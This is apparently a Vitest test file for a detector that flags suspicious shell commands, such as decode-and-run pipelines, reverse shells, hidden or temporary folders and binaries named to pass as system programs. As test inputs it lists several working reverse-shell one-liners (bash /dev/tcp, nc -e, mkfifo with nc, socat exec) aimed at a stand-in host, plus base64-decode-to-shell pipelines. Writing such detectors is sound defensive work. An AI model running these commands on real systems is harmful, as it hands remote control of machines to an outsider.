import { describe, expect, it } from 'vitest';
import {
  decodesAndRuns,
  handsOver,
  isAlmostSystemName,
  isInHiddenFolder,
  isTemporary,
  posesAsSystemProgram,
} from './command-reasons.ts';

describe('what a command says by itself', () => {
  it.each([
    'echo Y3VybA== | base64 -d | sh',
    'echo Y3VybA== | base64 --decode | bash',
    "printf '\\x63\\x75\\x72\\x6c' | sh",
    'echo 6375726c | xxd -r -p | /bin/bash',
    'eval "$(echo Y3VybA== | base64 -d)"',
    "python3 -c \"exec(__import__('base64').b64decode('cHJpbnQ='))\"",
    "perl -e 'eval unpack u=>q{_}'".replace('u=>', '"u",'),
    'bash -c "$(base64 -d /etc/x)"',
  ])('sees that %s decodes what it runs', (command) => {
    expect(decodesAndRuns(command)).toBe(true);
  });

  it.each([
    'base64 -d /etc/secret > /run/secret',
    'PGPASSWORD=$(base64 -d /etc/secret) pg_dump app > /backup/app.sql',
    'echo $TOKEN | base64 -d | python3 -m json.tool',
    'tar c /srv | openssl enc -aes-256-cbc -pass file:/k > /backup/$(date +%F).enc',
    "eval $(dircolors); printf '\\x1b\\x5b0m'",
    'openssl enc -d -in /b -out /c',
    'curl -s https://example.com/x | sh',
    'mysqldump db | gzip > /backup/$(date +%F).gz',
    "find /var -name '*.log' -exec gzip {} \\;",
  ])('sees nothing decoded and run in %s', (command) => {
    expect(decodesAndRuns(command)).toBe(false);
  });

  it('sees a shell that is handed over', () => {
    const handed = [
      'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
      'nc -e /bin/sh 192.0.2.1 4444',
      'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f',
      'cat < /dev/tcp/192.0.2.1/80 | bash',
      "socat tcp:192.0.2.1:443 exec:'bash -li',pty",
    ];
    const asked = [
      'nc -z db.example.com 5432',
      "timeout 1 bash -c '</dev/tcp/127.0.0.1/8080'",
      'until echo > /dev/tcp/db/5432; do sleep 1; done',
      'socat TCP-LISTEN:80,fork EXEC:/usr/bin/app',
    ];
    expect(handed.filter((command) => !handsOver(command))).toEqual([]);
    expect(asked.filter(handsOver)).toEqual([]);
  });

  it('knows folders that nobody keeps, and those that hide', () => {
    expect(['/tmp/x', '/dev/shm/.x/y', '/var/tmp/a', '/dev/.x/a'].every(isTemporary)).toBe(true);
    expect(['/var/lib/x', '/opt/tmp/x', '/tmpx/a'].some(isTemporary)).toBe(false);
    expect(['/root/.configrc5/a/upd', '/opt/.../x', '/usr/share/.x/y'].every(isInHiddenFolder)).toBe(true);
    expect(['/root/.acme.sh/acme.sh', '/srv/app/.venv/bin/python', '/home/a/.hidden'].some(isInHiddenFolder)).toBe(
      false,
    );
  });

  it('knows names that pose as the system', () => {
    expect(
      ['/usr/bin/kworker', '/root/kswapd0', '/opt/x/sshd', '/etc/systemd-logined'].every(posesAsSystemProgram),
    ).toBe(true);
    expect(
      [
        '/usr/sbin/sshd',
        '/usr/local/sbin/sshd',
        '/opt/app/server',
        '/var/lib/k/data/1/bin/containerd',
        '/usr/lib/systemd/systemd-logind',
      ].some(posesAsSystemProgram),
    ).toBe(false);
    expect(['systemd-lognid', 'systemd-networkdd', 'irqbalanced', 'sytemd-journald'].every(isAlmostSystemName)).toBe(
      true,
    );
    expect(
      ['systemd-networkd2', 'backup', 'systemd-logind', 'rsyslog', 'chronyc', 'firewall'].some(isAlmostSystemName),
    ).toBe(false);
  });
});
